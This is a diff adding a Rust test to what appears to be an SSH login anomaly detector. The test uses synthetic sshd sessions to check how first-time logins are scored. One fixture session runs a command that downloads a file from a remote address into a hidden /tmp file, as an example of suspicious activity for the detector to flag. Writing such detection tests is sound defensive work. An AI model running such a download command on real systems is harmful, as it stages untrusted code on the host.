@@ -510,6 +510,83 @@ mod tests {
     }
 
     #[test]
+    fn an_account_new_to_a_device_with_history_is_judged_on_what_it_did_when_nothing_else_is_wrong() {
+        let mut engine = engine();
+        assert_eq!(engine.learn_history(alice_history().iter().map(String::as_str)), 14);
+        let mut lines = Vec::new();
+        // carol: a first login, first try, from a network nobody here used, an ordinary command;
+        // her second login the day after.
+        let by_key = |lines: Vec<String>| -> Vec<String> {
+            lines
+                .into_iter()
+                .map(|l| {
+                    l.replace("Accepted password", "Accepted publickey").replace(" ssh2", " ssh2: ED25519 SHA256:x")
+                })
+                .collect()
+        };
+        lines.extend(by_key(sshd_session(15, (10, 0), 901, "carol", "203.0.113.5", 0, &["/usr/bin/apt update"])));
+        lines.extend(by_key(sshd_session(16, (10, 0), 902, "carol", "203.0.113.5", 0, &["/usr/bin/apt update"])));
+        // grace: the same by password (as bots with default passwords get in).
+        lines.extend(sshd_session(15, (10, 30), 908, "grace", "198.18.1.9", 0, &["/usr/bin/apt update"]));
+        // dave mistyped first; erin downloads into /tmp; frank logs in from an address that
+        // failed for another name an hour before (all by key); alice, known, from a new network.
+        lines.extend(by_key(sshd_session(15, (11, 0), 903, "dave", "198.18.2.6", 1, &[])));
+        lines.extend(by_key(sshd_session(
+            15,
+            (12, 0),
+            904,
+            "erin",
+            "198.18.3.7",
+            0,
+            &["/usr/bin/wget http://192.0.2.9/x -O /tmp/.x"],
+        )));
+        lines.push("Nov 15 12:00:01 host sshd[905]: Failed password for root from 198.18.4.8 port 50001 ssh2".into());
+        lines.extend(by_key(sshd_session(15, (13, 0), 906, "frank", "198.18.4.8", 0, &[])));
+        lines.extend(sshd_session(15, (14, 0), 907, "alice", "192.0.2.200", 0, &[]));
+        lines.sort_by(|a, b| a[..15].cmp(&b[..15]));
+        let mut out = Vec::new();
+        for line in &lines {
+            engine.feed(line);
+            engine.drain(&mut AlwaysNormal, &mut out);
+        }
+        engine.finish(&mut AlwaysNormal, &mut out);
+        let sessions: Vec<&Judged> = out.iter().filter(|j| j.observation.kind == RecordKind::Session).collect();
+        let of = |user: &str| -> Vec<&Judged> {
+            sessions.iter().copied().filter(|j| j.observation.user.as_deref() == Some(user)).collect()
+        };
+        let at = |j: &Judged, name: &str| {
+            j.features[bfp_common::schema::AGENT_FEATURE_NAMES.iter().position(|n| *n == name).unwrap()]
+        };
+        let carol = of("carol");
+        assert_eq!(carol.len(), 2);
+        // Her first session (a key, the first try, `apt update`): its vector holds no novelty
+        // of who or where (as in a learning period), the reason says why, and it is learnt:
+        // the second is a known user's, from a network one known user (she) comes from.
+        assert!(!carol[0].learning);
+        assert_eq!(at(carol[0], "never_seen_user"), bfp_common::UNKNOWN);
+        assert_eq!(at(carol[0], "known_users_from_network"), bfp_common::UNKNOWN);
+        assert!(carol[0]
+            .reasons
+            .iter()
+            .any(|r| r.starts_with("first login by carol on this device, by key at the first try")));
+        assert!(carol[0].judgement.learnt);
+        assert_eq!(at(carol[1], "never_seen_user"), 0.0);
+        assert_eq!(at(carol[1], "known_users_from_network"), 1.0);
+        assert!(carol[1].reasons.iter().all(|r| !r.contains("at the first try")));
+        // Anything else wrong and being new counts, as before.
+        for user in ["grace", "dave", "erin", "frank"] {
+            let j = of(user)[0];
+            assert_eq!(at(j, "never_seen_user"), 1.0, "{user}");
+            assert_eq!(at(j, "known_users_from_network"), 0.0, "{user}");
+            assert!(j.reasons.iter().all(|r| !r.contains("at the first try")), "{user}: {:?}", j.reasons);
+        }
+        // A known account from a new network is a stolen account's look: it still counts.
+        let alice = of("alice")[0];
+        assert_eq!(at(alice, "new_network_for_user"), 1.0);
+        assert_eq!(at(alice, "known_users_from_network"), 0.0);
+    }
+
+    #[test]
     fn history_with_a_refused_escalation_is_not_learnt() {
         let mut lines = sshd_session(20, (10, 0), 800, "bob", "198.51.100.7", 0, &["/usr/bin/ls"]);
         lines.insert(
